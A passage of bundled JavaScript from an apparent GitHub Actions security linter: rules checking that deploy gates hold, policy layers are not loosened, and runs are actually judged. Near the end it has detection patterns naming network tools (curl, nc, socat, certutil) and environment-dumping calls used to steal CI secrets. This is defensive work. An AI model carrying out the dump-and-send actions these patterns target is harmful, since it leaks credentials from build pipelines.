        if (part.toLowerCase() !== 'outputs' || this.#byId.get(id.toLowerCase()) !== this.#refusal.job)
            return undefined;
        return this.#refusal.result === 'skipped' ? '' : this.#refusal.outputs.get(name.toLowerCase());
    }
}

;// CONCATENATED MODULE: ./build/src/rules/support/guarded-job.js





class Guards {
    #gates;
    #purposeOf;
    #chains;
    constructor(workflow, gates, purposes) {
        this.#gates = gates;
        this.#purposeOf = (step) => purposes.ofStep(step, workflow.file).purposes[0];
        this.#chains = gates.map((gate) => {
            const behind = (0,jobs_behind/* jobsBehind */.$)(gate.job, workflow);
            const outputs = new Map(verdictOutputs(gate).map((name) => [name, 'deny']));
            const chain = (result) => new RefusalChain(workflow, { job: gate.job, result, outputs }, behind);
            const canSkip = gate.job.condition !== undefined || gate.job.needs.length > 0;
            return { gate, behind, failed: chain('failure'), skipped: canSkip ? chain('skipped') : undefined };
        });
    }
    of(job) {
        const guards = [...this.#earlier(job), ...this.#within(job)];
        const isSound = (guard) => guard.kind === 'held' && guard.gate.flaws.length === 0;
        return guards.find(isSound) ?? guards.find(({ kind }) => kind === 'held') ?? guards[0] ?? { kind: 'none' };
    }
    #earlier(job) {
        return this.#chains
            .filter(({ behind, gate }) => gate.job !== job && behind.has(job))
            .map(({ gate, failed, skipped }) => {
            if (job.condition === undefined)
                return { kind: 'held', gate };
            const place = guarded_job_placeOf(job.condition);
            if (failed.canRun(job))
                return { kind: 'overrides', gate, result: 'failure', ...place };
            return skipped?.canRun(job) === true ? { kind: 'overrides', gate, result: 'skipped', ...place } : { kind: 'held', gate };
        });
    }
    #within(job) {
        const gate = this.#gates.find((one) => one.job === job && one.step !== undefined);
        if (gate?.step === undefined || job.kind !== 'steps')
            return [];
        const all = [...(0,walk/* flatten */.Bq)(job.steps)];
        const steps = all.filter((step) => step.kind !== 'parallel');
        const at = all.slice(0, all.indexOf(gate.step)).filter((step) => step.kind !== 'parallel').length;
        const [early] = steps.slice(0, at).flatMap((step) => this.#purposeOf(step) ?? []);
        if (early !== undefined)
            return [{ kind: 'late', gate, span: early.span }];
        return [overridingStep(steps.slice(at + 1), gate, this.#purposeOf) ?? { kind: 'held', gate }];
    }
}
function overridingStep(steps, gate, purposeOf) {
    const hasPurpose = steps.some((step) => purposeOf(step) !== undefined);
    for (const step of steps) {
        const { condition } = step;
        const isMeant = hasPurpose ? purposeOf(step) !== undefined : step.kind === 'run' || isLocal(step);
        if (!isMeant || condition === undefined)
            continue;
        const refused = { success: false, failure: true, cancelled: false, valueOf: () => undefined, results: [] };
        if (conditionHolds((0,condition_of/* conditionOf */.r)(condition), refused) === false)
            continue;
        return { kind: 'step-overrides', gate, step, ...guarded_job_placeOf(condition) };
    }
    return undefined;
}
function isLocal(step) {
    return step.kind === 'uses' && (step.uses.target.kind === 'local' || step.uses.target.kind === 'self');
}
function verdictOutputs({ job, step, isWhole }) {
    if (job.kind === 'call')
        return isWhole ? ['verdict'] : [];
    const id = step?.id?.value.toLowerCase();
    if (id === undefined)
        return [];
    return job.outputs
        .filter(({ value }) => value.kind === 'scalar' && value.value.replace(/\s/g, '').toLowerCase() === `\${{steps.${id}.outputs.verdict}}`)
        .map(({ name }) => name.value.toLowerCase());
}
function guarded_job_placeOf(condition) {
    return { span: condition.alias ?? condition.span, condition: condition.value.trim() };
}

;// CONCATENATED MODULE: ./build/src/rules/support/risky-job.js


function judgeJobs(workflows, index, purposes) {
    const scan = new Scan(workflows, index, purposes);
    const called = new Set(workflows.flatMap(({ file, jobs }) => jobs.flatMap((job) => calleesOf(job, file, workflows))));
    const jobs = [];
    const openCallees = [];
    const undecided = [];
    for (const workflow of workflows) {
        const risky = scan.riskyJobs(workflow);
        const isOwn = !isOnlyCalled(workflow);
        if (isOwn || !called.has(workflow))
            undecided.push(...scan.undecidedJobs(workflow));
        jobs.push(...risky.filter(({ guard }) => isOwn || guard.kind !== 'none'));
        if (!isOwn && !called.has(workflow) && risky.some(({ guard }) => guard.kind === 'none'))
            openCallees.push(workflow);
    }
    return { jobs, openCallees, undecided };
}
class Scan {
    #workflows;
    #index;
    #purposes;
    #known = new Map();
    constructor(workflows, index, purposes) {
        this.#workflows = workflows;
        this.#index = index;
        this.#purposes = purposes;
    }
    riskyJobs(workflow) {
        return this.#look(workflow).risky;
    }
    undecidedJobs(workflow) {
        return this.#look(workflow).undecided;
    }
    #look(workflow) {
        const known = this.#known.get(workflow);
        if (known !== undefined)
            return known;
        const found = { risky: [], undecided: [] };
        this.#known.set(workflow, found);
        const gates = this.#index.gatesOf(workflow);
        const guards = new Guards(workflow, gates, this.#purposes);
        for (const job of workflow.jobs) {
            if (job.kind === 'call' && gates.some((gate) => gate.job === job && gate.isWhole))
                continue;
            const risk = this.#riskOf(job, workflow);
            if (risk !== undefined)
                found.risky.push({ workflow, job, ...risk, guard: guards.of(job) });
            else if (guards.of(job).kind === 'none')
                found.undecided.push(...this.#doubtsOf(job, workflow));
        }
        return found;
    }
    #doubtsOf(job, { file }) {
        const [callee] = calleesOf(job, file, this.#workflows);
        const inner = callee === undefined ? this.#purposes.ofJob(job, file).unfollowed.map((one) => ({ ...one, file })) : this.undecidedJobs(callee);
        return inner.slice(0, 1).map(({ uses, span, file: place }) => ({ job, uses, span, file: place }));
    }
    #riskOf(job, { file }) {
        if (job.kind === 'call') {
            const [callee] = calleesOf(job, file, this.#workflows);
            if (callee !== undefined)
                return this.#riskOfCall(callee);
        }
        const [purpose] = this.#purposes.ofJob(job, file).purposes;
        const verbs = { deploy: 'deploys', publish: 'publishes', sign: 'signs' };
        if (purpose !== undefined)
            return { why: `${verbs[purpose.kind]} with \`${purpose.by}\``, file, span: purpose.span };
        const name = job.kind === 'steps' ? job.environment?.name : undefined;
        if (name === undefined)
            return undefined;
        const why = name.expressions.length > 0 ? 'names an environment' : `names the environment \`${name.value}\``;
        return { why, file, span: name.alias ?? name.span };
    }
    #riskOfCall(callee) {
        const open = this.riskyJobs(callee).find(({ guard }) => guard.kind === 'none');
        if (open === undefined)
            return undefined;
        return { why: `calls \`${callee.file.path}\`, whose job \`${open.job.id.value}\` ${open.why}`, file: open.file, span: open.span };
    }
}
function calleesOf(job, file, workflows) {
    const callee = job.kind === 'call' ? gate_use_calleeOf(job.uses.target, file.root, workflows) : undefined;
    return callee === undefined ? [] : [callee];
}
function isOnlyCalled({ triggers }) {
    return triggers.length > 0 && triggers.every(({ event }) => event === 'workflow_call');
}

;// CONCATENATED MODULE: ./build/src/rules/policy/gate-ineffective.js









/* harmony default export */ const gate_ineffective = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'policy/gate-ineffective',
        title: 'Nothing deploys, publishes or signs unless the gate said yes',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'SSDF', id: 'PO.4' },
        ],
        rationale: 'A gate stops only what waits for it. A deploying job that does not need the gate, that runs `if: always()`, or whose gate may fail without consequence, goes on whatever was refused, and the run looks guarded. A step cannot stop code that already runs beside it either: in May 2026 the publish step of TanStack never ran, and code in an earlier step of the same job published with its identity (CVE-2026-45321). So the gate is a job of its own, before everything else.',
        remediation: "Make the gate the first job, call it without `if`, `continue-on-error` or `mode: report`, and name it in `needs` of every job that deploys, publishes or signs. Where such a job must run after other failures, write `if: ${{ !cancelled() && needs.gate.result == 'success' }}`.",
        messages: {
            absent: 'Job `{job}` {why}, and no gate stands before it. Name in its `needs` a job that runs Interlock',
            late: 'Job `{job}` {why} before its gate has decided. Move the gate to a job of its own, and name that in `needs`',
            overrides: "Job `{job}` {why}, and its `if: {found}` lets it run although the gate in job `{gate}` {result}. Add `needs.{gate}.result == 'success'` to it",
            'step-overrides': 'A step of job `{job}` that deploys runs although the gate before it refused: `if: {found}` holds after a failure. Take the status function out',
            'continue-on-error': 'The gate in job `{gate}` may fail without consequence: `continue-on-error: {found}`. Remove it; job `{job}` relies on this gate and {why}',
            'conditional-step': "The gate's step in job `{gate}` is skipped unless `{found}`, and what follows runs all the same. Remove the `if`; job `{job}` relies on this gate and {why}",
            'conditional-job': 'The gate in job `{gate}` runs only if `{found}`: today that skips job `{job}` too, which {why}; one `if: always()` there would not. Put the condition on the jobs behind the gate',
            report: 'The gate in job `{gate}` only reports (`mode: {found}`), and job `{job}` relies on it and {why}. Remove the input',
            'code-before': '`{found}` runs in job `{gate}` before the gate does, and can change what the gate sees. Make the gate the first step; job `{job}` relies on it and {why}',
            'side-by-side': 'The gate in job `{gate}` runs beside other steps, which do not wait for it. Make it a step of its own; job `{job}` relies on it and {why}',
            matrix: 'The gate in job `{gate}` is a matrix: with no entry it is skipped, and each entry judges alone. Run it once; job `{job}` relies on it and {why}',
        },
        examples: [
            {
                title: 'A deploying job that ignores its gate',
                files: {
                    '.github/workflows/deploy.yml': 'on: push\npermissions: {}\njobs:\n  gate:\n    uses: acme/interlock/.github/workflows/gate.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n  deploy:\n    needs: gate\n    if: always()\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n',
                },
                expect: [{ message: 'overrides', path: '.github/workflows/deploy.yml', line: 8 }],
            },
            {
                title: 'A gate that may fail, and a publishing job without any',
                files: {
                    '.github/workflows/release.yml': 'on: push\npermissions: {}\njobs:\n  gate:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: acme/interlock@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n        continue-on-error: true\n  deploy:\n    needs: gate\n    runs-on: ubuntu-24.04\n    steps:\n      - run: kubectl apply -f app.yml\n  publish:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: npm publish\n',
                },
                expect: [
                    { message: 'continue-on-error', path: '.github/workflows/release.yml', line: 8 },
                    { message: 'absent', path: '.github/workflows/release.yml', line: 14 },
                ],
            },
            {
                title: 'The gate is a job of its own, and the deploying job needs it',
                files: {
                    '.github/workflows/deploy.yml': "on: push\npermissions: {}\njobs:\n  gate:\n    uses: acme/interlock/.github/workflows/gate.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n  build:\n    needs: gate\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n  deploy:\n    needs: [gate, build]\n    if: ${{ !cancelled() && needs.gate.result == 'success' }}\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n",
                },
                expect: [],
            },
            {
                title: 'No gate is used at all (on the command line)',
                files: {
                    '.github/workflows/deploy.yml': 'on: push\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n',
                },
                expect: [],
            },
        ],
        options: {
            gates: {
                type: 'strings',
                default: [],
                description: 'Further actions and reusable workflows that are gates or begin with one, as `owner/name` or `owner/name/path`, for example the wrapper or the deploy workflow of an organisation.',
            },
        },
        key: ['job', 'gate'],
        locked: true,
    },
    needs: ['workflows', 'actions', 'scene'],
    evaluate({ workflows, actions, scene }, { gates }) {
        const index = new GateIndex(workflows.items, gateTest(scene, gates, actions.items));
        const guardedRoots = new Set(workflows.items.filter((one) => index.gatesOf(one).length > 0).map(({ file }) => file.root));
        const isMeant = scene.gate !== undefined || gates.length > 0;
        const judged = workflows.items.filter(({ file }) => isMeant || guardedRoots.has(file.root));
        if (judged.length === 0)
            return (0,finding/* notApplicable */.hH)('no workflow here uses Interlock yet');
        const { jobs, openCallees, undecided } = judgeJobs(judged, index, new workflow_purposes/* Purposes */.e((0,local_actions/* localActions */.N)(actions.items)));
        return [
            ...flawsOf(jobs),
            ...jobs.map(ofJob).filter((found) => found !== undefined),
            ...openCallees.map(callable),
            ...undecided.map(unseen),
        ];
    },
}));
function flawsOf(jobs) {
    const seen = new Set();
    return jobs.flatMap((risky) => {
        const { guard } = risky;
        if (guard.kind === 'none')
            return [];
        return guard.gate.flaws.flatMap((flaw) => {
            const key = JSON.stringify([flaw.kind, flaw.file.path, flaw.span.start]);
            if (seen.has(key))
                return [];
            seen.add(key);
            return [flawed(flaw, guard.gate, risky)];
        });
    });
}
const flawSeverity = {
    'continue-on-error': 'high',
    'conditional-step': 'high',
    'conditional-job': 'low',
    report: 'high',
    'code-before': 'medium',
    'side-by-side': 'medium',
    matrix: 'low',
};
function flawed(flaw, gate, { job, why }) {
    const data = { job: job.id.value, gate: gate.job.id.value, why, found: shortened(flaw.found) };
    return {
        kind: 'violation',
        message: flaw.kind,
        data,
        location: (0,locate/* locate */.x5)(flaw.file, flaw.span),
        severity: flawSeverity[flaw.kind],
    };
}
function ofJob(risky) {
    const { guard, job, workflow, why } = risky;
    const { file } = workflow;
    const base = { job: job.id.value, gate: gateName(guard), why };
    const related = [{ location: (0,locate/* locate */.x5)(risky.file, risky.span), message: `This job ${why}.` }];
    switch (guard.kind) {
        case 'held':
            return undefined;
        case 'none':
            return { kind: 'violation', message: 'absent', data: base, location: (0,locate/* locate */.x5)(file, job.id.span), related };
        case 'late':
            return { kind: 'violation', message: 'late', data: base, location: (0,locate/* locate */.x5)(file, guard.span) };
        case 'overrides': {
            const result = guard.result === 'failure' ? 'refused' : 'was skipped';
            const data = { ...base, found: shortened(guard.condition), result };
            return { kind: 'violation', message: 'overrides', data, location: (0,locate/* locate */.x5)(file, guard.span), related };
        }
        case 'step-overrides': {
            const data = { ...base, found: shortened(guard.condition) };
            return { kind: 'violation', message: 'step-overrides', data, location: (0,locate/* locate */.x5)(file, guard.span) };
        }
    }
}
function callable({ file }) {
    return (0,core_facts/* gap */.rQ)({
        item: file.path,
        cause: 'unresolvable',
        why: 'only other repositories call this workflow, and whether a gate stands before their calls is not to be seen here',
        remedy: 'Put a gate into the workflow itself, as its first job.',
        location: (0,locate/* locate */.x5)(file, { start: 0, end: 0 }),
    });
}
function unseen({ job, file, uses, span }) {
    return (0,core_facts/* gap */.rQ)({
        item: `job ${job.id.value}`,
        cause: 'unresolvable',
        why: `it uses ${shortened(uses)}, which is not in the repository or could not be read, and no gate stands before it`,
        remedy: 'Name the job of the gate in its `needs`, or keep the action in the repository.',
        location: (0,locate/* locate */.x5)(file, span),
    });
}
function gateName(guard) {
    return guard.kind === 'none' ? '' : guard.gate.job.id.value;
}
function shortened(text) {
    const line = text.replace(/\s+/g, ' ').trim();
    return line.length > 120 ? `${line.slice(0, 117)}...` : line;
}

;// CONCATENATED MODULE: ./build/src/rules/policy/loosened.js

/* harmony default export */ const loosened = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'policy/loosened',
        title: 'Inputs and lower layers of the policy only tighten what stands above them',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { posture: 'deny', merge: 'deny', deploy: 'deny' },
        controls: [
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-800-207', id: 'T4' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
        ],
        rationale: 'Whoever may edit a workflow may also edit the inputs of its gate: `mode: report`, a milder stage, another policy. If that counted, the gate would hold only those who do not mean to get past it. What is loosened here had no effect; it denies, because somebody tried.',
        remediation: 'Take `{what}` back to {allowed}, or have the owners of the layer above name it under `open`.',
        messages: {
            loosened: '`{what}` asks for {wanted}, but the layer above allows {allowed}. Take it back, or open it there',
        },
        examples: [
            {
                title: 'The input `mode` asks to report only',
                files: {},
                facts: {
                    policy: { loosenings: [{ what: 'input mode', wanted: 'report', allowed: 'enforce', place: undefined }] },
                },
                expect: [{ message: 'loosened' }],
            },
            {
                title: 'The repository turns off what its organisation demands',
                files: {},
                facts: {
                    policy: {
                        loosenings: [
                            {
                                what: 'rules.secret/inherit',
                                wanted: 'off',
                                allowed: 'deny',
                                place: { path: '.github/interlock.yml', line: 4, column: 3 },
                            },
                        ],
                    },
                },
                expect: [{ message: 'loosened', path: '.github/interlock.yml', line: 4 }],
            },
            { title: 'Nothing is loosened', files: {}, facts: { policy: { loosenings: [] } }, expect: [] },
        ],
        options: {},
        key: ['what'],
        locked: true,
    },
    needs: ['policy'],
    evaluate({ policy }) {
        return policy.loosenings.map((loosening) => ({
            kind: 'violation',
            message: 'loosened',
            data: { what: loosening.what, wanted: loosening.wanted, allowed: loosening.allowed },
            location: loosened_locationOf(loosening),
        }));
    },
}));
function loosened_locationOf({ what, place }) {
    if (place !== undefined)
        return inFile(place);
    const isInput = what.startsWith('input ');
    return { object: isInput ? 'input' : 'policy', name: isInput ? what.slice('input '.length) : what };
}
function inFile({ path, line, column }) {
    return { path, start: { line, column }, end: { line, column } };
}

;// CONCATENATED MODULE: ./build/src/rules/policy/no-rules.js


const maxNamed = 5;
/* harmony default export */ const no_rules = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'policy/no-rules',
        title: 'At least one rule is decided in every run',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { posture: 'deny', merge: 'deny', deploy: 'deny' },
        controls: [
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-800-207', id: 'T7' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-10' },
        ],
        rationale: 'A gate that judged nothing and is green says that all is well, and is the quietest way to switch a gate off: all rules off, none that applies, or a token that can see nothing. Where at least one rule could have been decided and was not, that is no violation: the run could not be decided. The rules about the gate itself do not count, because they pass on an empty policy.',
        remediation: 'Run the gate on a commit that has workflows, turn rules on in the policy (`extends: [preset:recommended]`), or remove the gate where nothing is to be judged.',
        messages: {
            off: 'Every rule is off at stage `{stage}`, so nothing was judged. Turn rules on in `{policy}`',
            'nothing-to-judge': 'The rules that are on ({total}) find nothing to judge here at stage `{stage}`. Run the gate where the workflows are, or turn on in `{policy}` what it should judge',
        },
        examples: [
            {
                title: 'All rules are off',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                facts: { outcomes: [] },
                expect: [{ message: 'off' }],
            },
            {
                title: 'One rule passed',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                facts: { outcomes: [{ meta: { id: 'workflow/unpinned-action' }, kind: 'pass', reason: '', findings: [], gaps: [] }] },
                expect: [],
            },
        ],
        options: {},
        key: ['stage'],
        locked: true,
    },
    needs: ['outcomes', 'policy', 'scene'],
    evaluate({ outcomes, policy, scene }) {
        const judged = outcomes.filter(({ meta }) => !meta.id.startsWith('policy/') && meta.id !== 'workflow/invalid');
        if (judged.some(({ kind }) => kind === 'pass' || kind === 'violation'))
            return [];
        const undecided = judged.filter((outcome) => outcome.kind === 'error' || (outcome.kind === 'unknown' && !isUnasked(outcome)));
        if (undecided.length > 0)
            return [undecidedRun(undecided)];
        const source = policy.layers[0]?.source ?? 'the policy';
        return [
            {
                kind: 'violation',
                message: judged.length === 0 ? 'off' : 'nothing-to-judge',
                data: { stage: scene.stage, total: String(judged.length), policy: source },
                location: { object: 'policy', name: source },
            },
        ];
    },
}));
function isUnasked({ gaps }) {
    return gaps.length > 0 && gaps.every(({ cause }) => cause === 'offline');
}
const no_rules_softenable = new Set(['unsupported', 'no-token']);
function undecidedRun(undecided) {
    const causes = new Set(undecided.flatMap(({ gaps }) => gaps.map(({ cause }) => cause)));
    const [cause = 'empty'] = causes;
    const names = undecided.map(({ meta }) => `\`${meta.id}\``);
    const shown = names.slice(0, maxNamed).join(', ');
    return (0,core_facts/* gap */.rQ)({
        item: 'the whole run',
        cause: causes.size === 1 && !no_rules_softenable.has(cause) ? cause : 'empty',
        why: `no rule was decided; of those that apply, not even one of ${shown}${names.length > maxNamed ? ` and ${names.length - maxNamed} more` : ''}`,
        remedy: undecided.flatMap(({ gaps }) => gaps.flatMap(({ remedy }) => remedy ?? []))[0] ??
            'Put right what keeps the other rules from being decided.',
    });
}

;// CONCATENATED MODULE: ./build/src/rules/policy/not-binding.js



const inAction = { gate: 'acme/interlock', running: { path: '.github/workflows/deploy.yml', job: 'gate' } };
/* harmony default export */ const not_binding = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'policy/not-binding',
        title: 'The change under judgement could not have written what judges it',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: { posture: 'warn', merge: 'warn', deploy: 'deny' } },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-800-207', id: 'T4' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-4' },
        ],
        rationale: 'A workflow that comes with the change can take the gate out, name another program, or another policy, and still show a green check of the same name. A decision binds only where a ruleset requires this workflow at a commit, or where the run stands on a default branch that takes reviewed pull requests alone. Everywhere else the decision is advice to those who mean well, and says so.',
        remediation: 'To make it binding: {remedy}.',
        messages: { 'not-binding': 'This decision does not bind: {reason}' },
        examples: [
            {
                title: 'A pull request brings the workflow that judges it',
                files: {},
                facts: {
                    scene: inAction,
                    binding: { value: false, reason: 'no ruleset requires this workflow', remedy: 'let a ruleset require it at a full commit' },
                },
                expect: [{ message: 'not-binding' }],
            },
            {
                title: 'A ruleset requires the workflow at the commit that runs',
                files: {},
                facts: { scene: inAction, binding: { value: true, way: 'required-workflow', reason: 'a ruleset requires it', remedy: '' } },
                expect: [],
            },
        ],
        options: {},
        key: ['gate'],
        locked: true,
    },
    needs: ['scene'],
    wants: ['binding'],
    evaluate({ scene, binding }) {
        if (scene.gate === undefined && scene.running === undefined)
            return (0,finding/* notApplicable */.hH)('the command line never binds');
        if (binding.state === 'unknown')
            return [(0,core_facts/* gapOfUnknown */.uI)('binding', binding)];
        const { value, reason, remedy, cause } = binding.value;
        const gate = scene.gate ?? 'the running job';
        if (value)
            return [];
        if (cause !== undefined)
            return [(0,core_facts/* gap */.rQ)({ item: gate, cause, why: `whether this decision binds is not known: ${reason}`, remedy })];
        return [{ kind: 'violation', message: 'not-binding', data: { gate, reason, remedy }, location: { object: 'gate', name: gate } }];
    },
}));

;// CONCATENATED MODULE: ./build/src/workflow/expressions-in.js



function expressionsIn(definition) {
    const known = listed.get(definition);
    if (known !== undefined)
        return known;
    const found = [];
    expressions_in_walk(definition.root, {}, ownersOf(definition), found);
    listed.set(definition, found);
    return found;
}
const listed = new WeakMap();
function ownersOf(definition) {
    const jobs = definition.kind === 'workflow' ? definition.jobs : [];
    const own = definition.kind === 'action' && definition.runs.kind === 'composite' ? definition.runs.steps : [];
    const steps = [...(0,walk/* flatten */.Bq)(own), ...jobs.flatMap((job) => (job.kind === 'steps' ? [...(0,walk/* flatten */.Bq)(job.steps)] : []))];
    const conditions = [...jobs, ...steps].map(({ condition }) => condition?.span.start).filter((start) => start !== undefined);
    return {
        file: definition.file,
        jobs: new Map(jobs.map((job) => [job.id.span.start, job])),
        steps: new Map(steps.map((step) => [step.span.start, step])),
        conditions: new Set(conditions),
    };
}
function expressions_in_walk(node, owner, owners, found) {
    if (node.alias !== undefined)
        return;
    switch (node.kind) {
        case 'scalar':
            for (const embedded of expressionsOf(node, owners))
                found.push({ scalar: node, embedded, ...owner });
            return;
        case 'sequence':
            for (const item of node.items)
                expressions_in_walk(item, owner, owners, found);
            return;
        case 'mapping': {
            const step = owners.steps.get(node.span.start);
            const inner = step === undefined ? owner : { ...owner, step };
            for (const { key, value } of node.entries) {
                const job = owners.jobs.get(key.span.start);
                expressions_in_walk(key, inner, owners, found);
                expressions_in_walk(value, job === undefined ? inner : { job }, owners, found);
            }
        }
    }
}
function expressionsOf(scalar, owners) {
    if (scalar.expressions.length > 0 || !owners.conditions.has(scalar.span.start))
        return scalar.expressions;
    const inValue = { start: 0, end: scalar.value.length };
    return [{ span: (0,span_in_file/* spanMapper */.g)(owners.file.text, scalar)(inValue), inValue, expression: (0,condition_of/* conditionOf */.r)(scalar) }];
}

;// CONCATENATED MODULE: ./build/src/rules/support/dump-and-sink.js

const sinks = /^(?:curl|wget|wget2|nc|ncat|netcat|socat|telnet|openssl|base64|base32|xxd|od|hexdump|gpg|ssh|scp|sftp|rsync|rclone|ftp|lftp|tftp|http|https|xh|aria2c|mail|sendmail|mutt|dig|nslookup|host|aws|gsutil|gcloud|azcopy|s3cmd|mc|gh|hub|git|invoke-webrequest|invoke-restmethod|iwr|irm|certutil)$/i;
function dumpName(command) {
    const memory = memoryFile(command);
    if (memory !== undefined)
        return memory;
    const texts = command.words.map(({ text }) => text);
    const at = texts.findIndex((text) => !/^(?:sudo|-E|then|do|else|!|command|exec)$/.test(text));
    const name = (texts[at] ?? '').replace(/^(?:\/usr)?(?:\/bin\/)?/, '');
    const rest = at < 0 ? [] : texts.slice(at + 1);
    switch (name.toLowerCase()) {
        case 'env':
        case 'printenv':
            return rest.every((text) => /^(?:-0|--null)$/.test(text)) ? name : undefined;
        case 'export':
        case 'declare':
        case 'typeset':
            return rest.every((text) => /^-[xp]+$/.test(text)) ? name : undefined;
        case 'set':
            return rest.length === 0 ? name : undefined;
        default:
            return powershellDump(name, rest) ?? interpreterDump(command);
    }
}
function powershellDump(name, rest) {
    if (!/^(?:get-childitem|get-item|gci|dir|ls)$/i.test(name))
        return undefined;
    return rest.some((text) => /^env:[\\/]?\*?$/i.test(text)) ? `${name} env:` : undefined;
}
function memoryFile({ words, redirects }) {
    return (words.find(({ text }) => /^@?\/proc\/[^/]+\/(?:environ|mem)$/.test(text))?.text ??
        redirects.find(({ target }) => /^\/proc\/[^/]+\/environ$/.test(target.text))?.target.text);
}
function interpreterDump(command) {
    const program = (0,shell/* programOf */.o)(command);
    const script = program?.arguments.map(({ text }) => text).join(' ') ?? '';
    if (program === undefined || script.length > 20_000)
        return undefined;
    const whole = {
        node: /process\.env(?![\w.[?])/,
        bun: /process\.env(?![\w.[?])/,
        deno: /env\.toObject\(/,
        python: /os\.environ(?![\w.[])/,
        python3: /os\.environ(?![\w.[])/,
        ruby: /ENV(?:\.(?:to_h|inspect|to_a)|\b(?![\w.[]))/,
        perl: /%ENV/,
        php: /getenv\(\)|\$_ENV\b(?!\[)/,
        jq: /(?:^|[\s(,|])(?:env|\$ENV)(?![\w.[])/,
    };
    const pattern = Object.hasOwn(whole, program.name) ? whole[program.name] : undefined;
    return pattern?.test(script) === true ? program.name : undefined;
}
function sinkName(command) {
    const program = (0,shell/* programOf */.o)(command);
    if (program === undefined || !sinks.test(program.name))
        return undefined;
    const texts = program.arguments.map(({ text }) => text);
    const isDecoding = /^base(?:64|32)$/.test(program.name) && texts.some((text) => /^(?:-d|-D|-di|--decode)$/.test(text));
    const isQuiet = program.name === 'git' && !texts.includes('push') && !texts.includes('commit');
    return isDecoding || isQuiet ? undefined : program.name;
}

;// CONCATENATED MODULE: ./build/src/rules/support/name-of-uses.js
function nameOfUses({ scalar }) {
    return scalar.value.replace(/@.*/s, '');
}

;// CONCATENATED MODULE: ./build/src/rules/support/program-statements.js
const maxLength = 4_000;
function statementsOf(script) {
    const found = [];
    let start = 0;
    let depth = 0;
    const end = (at) => {
        const text = script.slice(start, at);
        if (text.trim() !== '' && !/^\s{0,999}(?:#|\/\/)/.test(text))
            found.push({ text, span: trimmed(text, start) });
        start = at + 1;
        depth = 0;
    };
    for (let at = 0; at < script.length; at += 1) {
        const char = script[at];
        if (char === '(' || char === '[')
            depth += 1;
        else if (char === ')' || char === ']')
            depth = Math.max(0, depth - 1);
        else if ((char === '\n' || char === ';') && (depth === 0 || at - start > maxLength))
            end(at);
    }
    end(script.length);
    return found;
}
function trimmed(text, start) {
    const from = start + text.length - text.trimStart().length;
    return { start: from, end: from + text.trim().length };
}

;// CONCATENATED MODULE: ./build/src/rules/support/program-dump.js

const program_dump_environments = [
    [
        'os.environ',
        /(?<!\bin\s{1,9}(?:\w+\.)?)\benvironb?\b(?!\s{0,9}[\w[.=]|["'/])|\benvironb?\.(?:copy|items|values)\(|\bfor\s[\w, ]{1,60}\sin\s{1,9}(?:\w+\.)?environb?\b/,
    ],
    ['process.env', /(?<!\}\s{0,9}=\s{0,9})\b(?:process|Bun)\.env\b(?!\s{0,9}(?:[\w[=]|\??\.(?!\.)|\?\?))/],
    ['Deno.env', /\bDeno\.env\.toObject\(/],
    ['Get-ChildItem env:', /\b(?:get-childitem|get-item|gci|gi|dir|ls)\b[^|;\n]{0,80}[\s'"(]env:[\\/]?\*?(?=['"\s)|;]|$)/i],
    ['GetEnvironmentVariables', /\bGetEnvironmentVariables\(/i],
    ['ENV', /\bENV\.(?:to_h|to_a|to_hash|inspect|each|map|sort)\b|%ENV\b|\$_ENV\b(?!\s{0,9}\[)|\bgetenv\(\)/],
    ['os.Environ', /\bos\.Environ\(\)|\benv::vars\(\)/],
    ['/proc/self/environ', /["'`]\/proc\/(?:self|\d{1,9}|\$\{?\w{1,20}\}?)\/environ["'`]/],
];
